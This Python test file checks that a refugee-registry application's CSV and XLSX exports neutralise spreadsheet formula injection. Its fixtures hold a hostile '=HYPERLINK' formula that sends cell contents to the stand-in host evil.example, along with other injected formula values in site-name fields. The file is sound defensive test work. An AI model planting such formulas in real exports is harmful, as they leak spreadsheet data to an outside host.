"""A site named `=HYPERLINK(...)` reaches every export as text, never as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from click.testing import CliRunner

from haven.cli import report as _report  # noqa: F401  (registers the command)
from haven.cli.main import cli
from haven.core.spreadsheets import FORMULA_STARTS
from haven.intake.importing.reading import FileRefused
from haven.intake.importing.services import import_households
from haven.intake.models import ImportJob
from haven.registry.models import Site
from haven.testing.factories import actor_for, member, signed_in

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
YEREVAN = dt.timezone(dt.timedelta(hours=4))


@pytest.fixture
def hostile_site(sites, make_household):
    Site.objects.create(slug="evil", kind="reception_hub", name_en=HYPERLINK,
                        settlement="@SUM(1+1)", province=" -2+3")
    make_household(site="evil", arrived_at=dt.datetime(2023, 9, 25, 10, tzinfo=YEREVAN),
                   members=[member(given_name="Anahit"),
                            *(member(given_name=name, relationship="child")
                              for name in ("Tigran", "Narine", "Aram", "Gayane", "Davit"))])


def runnable(text: str) -> bool:
    """Return whether a spreadsheet would run the text as a formula."""
    stripped = text.lstrip(" \t\r\n\ufeff\u00a0")
    return bool(stripped) and stripped[0] in FORMULA_STARTS and not text.startswith("'")


def assert_csv_safe(text: str) -> None:
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert any(HYPERLINK in c for c in cells)  # the name is there, as text
    assert not [c for c in cells if runnable(c)]


def assert_xlsx_safe(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not [s for s in sheets if b"<f>" in s or b"<f " in s]  # no formula anywhere
    book = openpyxl.load_workbook(io.BytesIO(content))
    values = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(HYPERLINK in c.value for c in values)
    assert all(c.data_type == "s" for c in values)
    assert not [c.value for c in values if runnable(c.value)]


def test_open_data_csv_and_xlsx_from_the_page_and_the_api(hostile_site, users, api):
    client = signed_in(users["viewer"])
    for table in ("sites", "dtm"):
        page = client.get(f"/reports/open-data.csv?date=2023-09-25&table={table}")
        assert page.status_code == 200
        assert_csv_safe(page.content.decode("utf-8"))
        bom = client.get(f"/reports/open-data.csv?date=2023-09-25&table={table}&bom=1")
        assert_csv_safe(bom.content.decode("utf-8-sig"))
        assert_xlsx_safe(client.get(
            f"/reports/open-data.xlsx?date=2023-09-25&table={table}").content)
        assert_xlsx_safe(api("coordinator").get(
            "/reports/open-data", date="2023-09-25", table=table, format="xlsx").content)
        assert_csv_safe(api("coordinator").get(
            "/reports/open-data", date="2023-09-25", table=table, format="csv"
        ).content.decode())


def test_the_sitrep_csv_and_xlsx_of_the_command_line(hostile_site, tmp_path):
    for fmt in ("csv", "xlsx"):
        target = tmp_path / f"sitrep.{fmt}"
        result = CliRunner().invoke(cli, ["report", "sitrep", "--date", "2023-09-25",
                                          "--format", fmt, "-o", str(target)])
        assert result.exit_code == 0, result.output
        if fmt == "csv":
            assert_csv_safe(target.read_text(encoding="utf-8"))
        else:
            assert_xlsx_safe(target.read_bytes())


def test_the_import_report_quotes_the_file_as_text(sites, users, tmp_path):
    """The report names a file's column as the file spells it: here, a formula."""
    quoted = HYPERLINK.replace('"', '""')
    path = tmp_path / "hostile.csv"
    path.write_text(f'household_key,given_name,family_name,sex,relationship,"{quoted}"\n'
                    "1,Anahit,Vardanyan,f,head,x\n", encoding="utf-8")
    report = tmp_path / "report.csv"
    with pytest.raises(FileRefused):
        import_households(actor=actor_for(users["coordinator"]), path=path, site="goris",
                          report_path=report)
    assert_csv_safe(report.read_text(encoding="utf-8-sig"))
    job = ImportJob.objects.get()
    assert_csv_safe(job.report)
    download = signed_in(users["coordinator"]).get(f"/imports/{job.pk}/report.csv")
    assert_csv_safe(download.content.decode("utf-8-sig"))
